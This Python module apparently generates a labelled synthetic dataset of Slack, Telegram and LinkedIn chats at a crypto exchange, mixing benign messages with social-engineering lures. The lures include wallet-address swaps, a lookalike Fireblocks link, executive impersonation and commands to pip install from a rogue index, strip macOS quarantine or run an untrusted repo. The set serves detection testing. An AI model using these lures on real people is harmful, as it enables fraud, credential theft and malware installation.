"""Set K chat exports: a Slack workspace export (an internal channel and a Slack Connect channel), a
Telegram Desktop result.json and a LinkedIn messages.csv. The file shapes come from the shared writers
(mail_src/slack_writer.py, mail_src/chat_writers.py); the people, ids and messages are set K's own."""

from __future__ import annotations

import uuid
from typing import Any

from chat_writers import LinkedInWriter, TelegramWriter
from slack_writer import SlackWriter, slack_json
from spec import ChatFile, ChatItem

SLACK_SERVICE_SUBTYPES = ("channel_join", "channel_leave", "channel_purpose", "channel_topic")
TEAM = "T01KITSUNE"
GUEST_TEAM = "T09VANTROY"

SLACK_USERS: dict[str, dict[str, Any]] = {
    "U01HSATO": {"name": "haruto.sato", "real": "Haruto Sato", "title": "CEO", "team": TEAM,
                 "email": "h.sato@kitsune-ex.co.jp"},
    "U02MTANAKA": {"name": "m.tanaka", "real": "Mika Tanaka", "title": "Treasury Operations", "team": TEAM,
                   "email": "m.tanaka@kitsune-ex.co.jp"},
    "U02KSUZUKI": {"name": "k.suzuki", "real": "Kenta Suzuki", "title": "Backend Engineer", "team": TEAM,
                   "email": "k.suzuki@kitsune-ex.co.jp"},
    "U02STAKAHASHI": {"name": "s.takahashi", "real": "Sho Takahashi", "title": "Security", "team": TEAM,
                      "email": "s.takahashi@kitsune-ex.co.jp"},
    "U03LWEI": {"name": "l.wei", "real": "Li Wei", "title": "OTC Desk, Hong Kong", "team": TEAM,
                "email": "l.wei@kitsune-ex.com"},
    # Slack Connect guests from Vantroy Liquidity's workspace.
    "U09NKOVAC": {"name": "nadia.kovac", "real": "Nadia Kovac", "title": "Settlements Lead, Vantroy Liquidity",
                  "team": GUEST_TEAM, "email": "nadia.kovac@vantroy.io"},
    "U09PVARGA": {"name": "paul.varga", "real": "Paul Varga", "title": "Operations, Vantroy Liquidity",
                  "team": GUEST_TEAM, "email": "paul.varga.vantroy@outlook.com"},
}

_SLACK = SlackWriter(SLACK_USERS, TEAM, id_prefix="set-k:")
_msg, _join = _SLACK.message, _SLACK.join


def _lab(label: str, category: str, language: str, note: str) -> ChatItem:
    return ChatItem(label, category, language, note)


def slack_export() -> list[ChatFile]:
    base = "chat/slack"
    channels = [
        {"id": "C04OTCDESK", "name": "otc-desk", "created": 1767225600, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False,
         "members": ["U01HSATO", "U02MTANAKA", "U02STAKAHASHI", "U03LWEI"],
         "topic": {"value": "OTC desk and settlements", "creator": "U02MTANAKA", "last_set": 1767225600},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
        {"id": "C09VANTROY", "name": "ext-vantroy-liquidity", "created": 1793000000, "creator": "U02MTANAKA",
         "is_archived": False, "is_general": False,
         "members": ["U02MTANAKA", "U02KSUZUKI", "U09NKOVAC", "U09PVARGA"],
         "topic": {"value": "Shared channel with Vantroy Liquidity (Slack Connect)", "creator": "U02MTANAKA",
                   "last_set": 1793000000},
         "purpose": {"value": "", "creator": "", "last_set": 0}},
    ]
    files = [_SLACK.users_file(base),
             ChatFile(f"{base}/channels.json", slack_json(channels)),
             ChatFile(f"{base}/integration_logs.json", b"[]\n")]

    desk = [
        (_msg("U03LWEI", "HKD from Hongsheng landed, checked against the bank statement. Release of 3.2m USDT "
                         "is in Fireblocks to their whitelisted address, needs a second approver please.",
              "2026-11-06 08:20", 1),
         _lab("benign", "wallet-request", "en", "Desk colleague asks for the second approval of a release to a whitelisted address after fiat arrived")),
        (_msg("U02MTANAKA", "Quillfeather: called Alistair on the number on file, their USDC address has NOT changed. "
                            "The quillfeather-markets mail is fake, reported to security. Keep the whitelisted one.",
              "2026-11-08 13:10", 2),
         _lab("benign", "conversation-hijack", "en", "Treasury reports that a partner confirmed by call-back that nothing changed")),
        (_msg("U02STAKAHASHI", "Reminder for the desk: don't install tools or plugins that vendors or counterparties send "
                               "directly (dmg, exe, pip packages). Ask IT to push it through Self Service.",
              "2026-11-09 09:00", 3),
         _lab("benign", "trading-app", "en", "Security reminder naming installer types, no link")),
    ]
    files.append(_SLACK.day_file(base, "otc-desk", "2026-11-06", desk, SLACK_SERVICE_SUBTYPES))

    ext = [
        (_join("U09PVARGA", "2026-11-10 06:55", 1), None),
        (_msg("U09NKOVAC", "Morning all - weekly settlement tomorrow 10:00 UTC as usual, same addresses on both sides.",
              "2026-11-10 07:02", 2),
         _lab("benign", "wallet-request", "en", "Partner's real contact confirms the usual settlement, no change")),
        (_msg("U02MTANAKA", "Thanks Nadia, confirmed on our side.", "2026-11-10 07:15", 3),
         _lab("benign", "wallet-request", "en", "Treasury acknowledges the routine settlement")),
        (_msg("U09PVARGA", "Hi Mika, quick ops update: from today our USDC collateral wallet is "
                           "0x8C2e51b0A7d94F3c6E1a0B5d72f8C9e34A6d1B07. Please switch before tomorrow's settlement, "
                           "no need to do the address form this time, Nadia is aware.",
              "2026-11-10 08:40", 4),
         _lab("lure", "wallet-request", "en", "Guest on an Outlook.com account changes the collateral address and skips the address form")),
        (_msg("U09PVARGA", "Also our network link to your Fireblocks workspace dropped after the upgrade, can someone "
                           "re-link it here: <https://console.fireblocks.io.vantroy-sync.com/network/relink|console.fireblocks.io>",
              "2026-11-10 08:44", 5),
         _lab("lure", "lookalike-link", "en", "Link text shows console.fireblocks.io but points to console.fireblocks.io.vantroy-sync.com")),
        (_msg("U09PVARGA", "<@U02KSUZUKI> for the new RFQ flow please install our bridge on the host that has your "
                           "trading API keys: `pip install vantroy-rfq-bridge --index-url https://pypi.vantroy-dev.net/simple` "
                           "then run `vantroy-bridge init` with the keys in env.",
              "2026-11-10 08:51", 6),
         _lab("lure", "trading-app", "en", "Guest asks an engineer to pip install a package from a private index on the host with trading keys")),
        (_msg("U09NKOVAC", "Please ignore Paul's messages above - he is not on our team and we don't use that address "
                           "or that domain. Our admin is removing the account now. Nothing changes for tomorrow.",
              "2026-11-10 09:20", 7),
         _lab("benign", "wallet-request", "en", "Partner's real contact warns that the guest is not theirs")),
    ]
    files.append(_SLACK.day_file(base, "ext-vantroy-liquidity", "2026-11-10", ext, SLACK_SERVICE_SUBTYPES))
    return files


TG_PEOPLE = {
    "Mateo Ruiz | Calderon OTC": "user5518209341",
    "Li Wei": "user6620113458",
    "Mika Tanaka": "user6620113472",
    "Haruto Sato CEO": "user7741902265",
    "Felix Orr": "user7802217730",
    "キツネ公式サポート": "user7900431186",
}


def telegram_export() -> list[ChatFile]:
    tg = TelegramWriter(TG_PEOPLE, first_id=21400)
    tg.entry("Mateo Ruiz | Calderon OTC", "2026-11-11 01:05",
             ["Morning. 2m USDT/USD firm at 1.0003 for the next 10 min, settle T+0 on the usual addresses."],
             _lab("benign", "wallet-request", "en", "Counterparty's ordinary quote on the usual addresses"))
    tg.entry("Li Wei", "2026-11-11 01:07", ["Done at 1.0003 for 2m. Settling to the whitelisted addresses as usual."],
             _lab("benign", "wallet-request", "en", "Desk confirms a trade to whitelisted addresses"))
    tg.service("Haruto Sato CEO", "2026-11-11 02:30", "join_group_by_link", inviter="Group")
    tg.entry("Haruto Sato CEO", "2026-11-11 02:34",
             [("李伟，我是佐藤。我跟Calderon谈了一个单独的交易，请先从热钱包转 150,000 USDT 到这个地址："
               "TW9q4Lr2Vn8Xc1Kd6Hs3Pf7Bm0Ja5Yg2Ez ，审批我之后补。这件事先别告诉田中。")],
             _lab("lure", "exec-impersonation", "zh", "Account named like the CEO joins by link and asks the desk for a side transfer, approval later"))
    tg.service("Felix Orr", "2026-11-11 03:10", "join_group_by_link", inviter="Group")
    tg.entry("Felix Orr", "2026-11-11 03:12",
             [("Hi all, Felix from Calderon's investment arm. Would love a call with your CEO about a strategic stake. "
               "We use our own secure meeting app, please install it before: "),
              {"type": "link", "text": "https://calderon-meet.app/dl/CalMeet-2.1.pkg"},
              " (if macOS blocks it: System Settings > Privacy & Security > Open Anyway)"],
             _lab("lure", "investor-meeting-install", "en", "Newcomer asks to install a meeting pkg from a non-official domain with Gatekeeper override"))
    tg.entry("Mateo Ruiz | Calderon OTC", "2026-11-11 03:20",
             [("Heads up: Felix is not from Calderon and we have no investment arm. Please don't install anything. "
               "The \"Haruto Sato CEO\" account also joined by link - can your admin check?")],
             _lab("benign", "investor-meeting-install", "en", "Counterparty warns that the newcomers are impostors"))
    tg.service("キツネ公式サポート", "2026-11-11 03:41", "join_group_by_link", inviter="Group")
    tg.entry("キツネ公式サポート", "2026-11-11 03:44",
             ["【法人デスク様へ】新しい裁定取引ツールを公開しました。Androidの方はこちらからインストールしてください：",
              {"type": "link", "text": "https://kitsune-otc-tools.app/arb/KitsuneArb_1.3.apk"},
              "（提供元不明のアプリを許可してください）"],
             _lab("lure", "trading-app", "ja", "Account named like the company's support pushes an APK from a non-store domain"))
    tg.entry("Mika Tanaka", "2026-11-11 04:02",
             [("Removed the three accounts that joined by link and reset the invite link. Reminder: we never ask for "
               "transfers, installs or keys in this chat; everything goes through the agreed settlement process.")],
             _lab("benign", "exec-impersonation", "en", "Treasury removes the impostors and restates the rules"))
    return [tg.export("Calderon OTC × Kitsune", "private_supergroup", 1980441273)]


def _li_uuid(seed: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "set-k:li:" + seed))


ME = ("Kenta Suzuki", "https://www.linkedin.com/in/kenta-suzuki-kx")


def linkedin_export() -> list[ChatFile]:
    li = LinkedInWriter(_li_uuid)
    renko = ("Ines Brandt", "https://www.linkedin.com/in/ines-brandt-talent")
    li.row("renko", renko, ME, "2026-11-03 10:14", "Senior Node engineer - DeFi infra",
           "Hi Kenta, I'm hiring for Renko Protocol (remote, $220-260k + tokens). First step is a quick practical: "
           "clone https://github.com/renko-protocol/dex-backend-trial and run `npm i && npm run start:local` on the "
           "laptop you use every day (the script checks your env, VMs break it). Then ping me on Telegram @ines_renko "
           "and I'll set up the CTO call.",
           _lab("lure", "recruiter-coding-test", "en", "Recruiter asks to run a repo on the everyday laptop, then Telegram"))
    li.row("renko", ME, renko, "2026-11-03 12:40", "RE: Senior Node engineer - DeFi infra",
           "Thanks Ines. I only do take-homes in a browser IDE or a throwaway VM, and I'd like to speak with the "
           "team first. Happy to do a live session on CoderPad if that works.",
           _lab("benign", "recruiter-coding-test", "en", "Owner's own SENT reply declining to run code locally"),
           folder="SENT")
    enjapan = ("村上 直子", "https://www.linkedin.com/in/naoko-murakami-enjapan")
    li.row("enjapan", enjapan, ME, "2026-11-05 09:30", "バックエンドエンジニアのポジションについて",
           "鈴木様、エン・ジャパンの村上と申します。国内の証券系フィンテック企業でバックエンドエンジニアを募集しており、"
           "ご興味があれば一度オンラインでお話しできればと思います。事前の課題やインストールは不要です。",
           _lab("benign", "recruiter-coding-test", "ja", "Ordinary recruiter intro; no task, no install"))
    vc_ko = ("최민재", "https://www.linkedin.com/in/minjae-choi-vc")
    li.row("vc-ko", vc_ko, ME, "2026-11-07 11:05", "투자 미팅 제안",
           "스즈키 님, 저희 펀드가 키츠네 거래소 인프라에 관심이 있습니다. 미팅은 보안 때문에 자체 앱으로만 진행합니다. "
           "https://sequra-meet.io/mac/SequraMeet.dmg 설치 후 터미널에서 xattr -cr /Applications/SequraMeet.app 실행해 주세요.",
           _lab("lure", "investor-meeting-install", "ko", "Investor asks to install a meeting dmg and strip quarantine"))
    vc_en = ("Felicity Ward", "https://www.linkedin.com/in/felicity-ward-vc")
    li.row("vc-en", vc_en, ME, "2026-11-08 15:20", "Intro",
           "Hi Kenta, we're looking at exchange infrastructure in Japan and would love 20 minutes with your team. "
           "Does Thursday work? Here's a Zoom link: https://us06web.zoom.us/j/86120447193",
           _lab("benign", "investor-meeting-install", "en", "Ordinary investor intro with a real zoom.us link"))
    fake_cfo = ("Emily Carter", "https://www.linkedin.com/in/emily-carter-cfo-kitsune-ex")
    li.row("fake-cfo", fake_cfo, ME, "2026-11-12 22:10", "Quick favour",
           "Kenta, it's Emily (CFO), new profile. I'm boarding and can't reach the ops laptop: please generate a "
           "GitHub personal access token with admin:org for the auditors and send it to me here. Don't log a ticket, "
           "I'll sort it out with Sho tomorrow.",
           _lab("lure", "exec-impersonation", "en", "Second profile using the CFO's name asks for an org-admin GitHub token, no ticket"))
    partner_fr = ("Hélène Vautrin", "https://www.linkedin.com/in/helene-vautrin-corbelle")
    li.row("partner-fr", partner_fr, ME, "2026-11-14 09:00", "Conférence à Paris",
           "Bonjour Kenta, ravie de vous avoir rencontré à la conférence. Si vous repassez à Lyon, je serais heureuse "
           "de vous présenter notre équipe. Bonne fin de semaine !",
           _lab("benign", "conversation-hijack", "fr", "Partner's real contact sends an ordinary follow-up note"))
    return [li.export()]


def all_chats() -> list[ChatFile]:
    return [*slack_export(), *telegram_export(), *linkedin_export()]
